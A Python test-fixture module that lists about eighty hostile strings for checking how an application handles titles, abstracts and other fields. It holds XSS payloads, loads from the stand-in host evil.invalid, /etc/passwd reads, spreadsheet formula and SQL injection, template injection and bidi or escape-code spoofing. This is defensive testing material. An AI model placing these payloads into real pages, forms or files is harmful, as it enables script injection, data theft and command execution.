"""Eighty texts that try to be more than text: as titles, abstracts, people, venues, questions.

What runs would set `window.pwned` or open a dialog, what loads would ask `evil.invalid`.
"""

from __future__ import annotations

_RUN = "window.pwned=1"
_HOST = "http://evil.invalid"

MARKUP = [
    f"<script>{_RUN}</script>",
    f"<ScRiPt >{_RUN}</sCrIpT >",
    f"<script src={_HOST}/a.js></script>",
    f'"><script>{_RUN}</script>',
    f"</script><script>{_RUN}</script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<img src=x onerror={_RUN}>",
    f'<img src="{_HOST}/a.png">',
    f"<img src={_HOST}/b.png srcset={_HOST}/c.png>",
    f'" onmouseover="{_RUN}" x="',
    f"' autofocus onfocus='{_RUN}",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f'<svg><a xlink:href="javascript:{_RUN}"><text y=20>go</text></a></svg>',
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f'<svg><use href="data:image/svg+xml,<svg id=x onload={_RUN}>#x"/></svg>',
    f'<math><mi xlink:href="javascript:{_RUN}">x</mi></math>',
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
    f'<iframe src="javascript:{_RUN}"></iframe>',
    f'<iframe srcdoc="<script>parent.{_RUN}</script>"></iframe>',
    f'<object data="{_HOST}/o.swf"></object>',
    f"<embed src={_HOST}/e>",
    f'<video><source onerror="{_RUN}"></video>',
    f"<audio src={_HOST}/s.mp3 autoplay onloadstart={_RUN}>",
    f"<body onload={_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f"<marquee onstart={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f'<form action="{_HOST}"><button formaction="javascript:{_RUN}">go</button></form>',
    f'<a href="javascript:{_RUN}">go</a>',
    f'<a href=" java\tscript:{_RUN}">go</a>',
    f'<base href="{_HOST}/">',
    f'<link rel=stylesheet href="{_HOST}/a.css">',
    f'<meta http-equiv=refresh content="0;url={_HOST}">',
    f"<style>@import '{_HOST}/b.css'; body{{display:none}}</style>",
    f'<div style="background:url({_HOST}/d.png);position:fixed;inset:0">',
    f"<template><img src=x onerror={_RUN}></template>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<!--><img src=x onerror={_RUN}>-->",
    f"<![CDATA[<img src=x onerror={_RUN}>]]>",
    f"&lt;img src=x onerror={_RUN}&gt;",
    f"&#60;img src=x onerror={_RUN}&#62;",
    f"\\x3cimg src=x onerror={_RUN}\\x3e",
    "</div></section></main></body></html><h1>over</h1>",
    '<button class="act" value=\'{"do":"new"}\'>New chat</button>',
    '<p id="finished">999</p>',
    '<div class="file" id="file-999" title="a.html">saved</div>',
]
ADDRESSES = [
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}//",
    f"data:text/html,<script>{_RUN}</script>",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
    f"vbscript:{_RUN}",
    "file:///etc/passwd",
    "//evil.invalid/protocol-relative",
    "http://user:secret@evil.invalid/",
    f"{_HOST}/plain?q=1&r=<b>",
    "http://evil.invalid:99999999/ [x](y)",
]
MARKDOWN = [
    f"![x]({_HOST}/m.png)",
    f"[![x]({_HOST}/n.png)](javascript:{_RUN})",
    f"[click](javascript:{_RUN})",
    f"[ref]: {_HOST}\n\n[ref]",
    f"<{_HOST}/auto>",
    f"```html\n<script>{_RUN}</script>\n```",
    "| a | b |\n|---|---|\n| c | d |",
    "# Heading\n\n- [x] done\n\n> quote\n\n***",
    "$$\\href{javascript:window.pwned=1}{x}$$",
    "\\(\\includegraphics{http://evil.invalid/l.png}\\) and \\input{/etc/passwd}",
    "$$\\def\\a{\\a\\a}\\a$$",
]
OTHERS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.invalid","click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1-1\t-2",
    "\u202egnp.exe\u202c reversed",
    "zero\u200bwidth\u200d and \ufeff marks",
    "\x1b[31mred\x1b[0m \x1b]8;;http://evil.invalid\x07link\x1b]8;;\x07",
    "null\x00byte and \x08 backspace",
    "{{7*7}} ${7*7} <%= 7*7 %> #{7*7} {% raw %}",
    "'; DROP TABLE papers; -- \" OR \"1\"=\"1",
    "Z" + "\u0300" * 300 + "algo",
    "enormous " + "W" * 100_000,
]  # fmt: skip
STRINGS = [*MARKUP, *ADDRESSES, *MARKDOWN, *OTHERS]
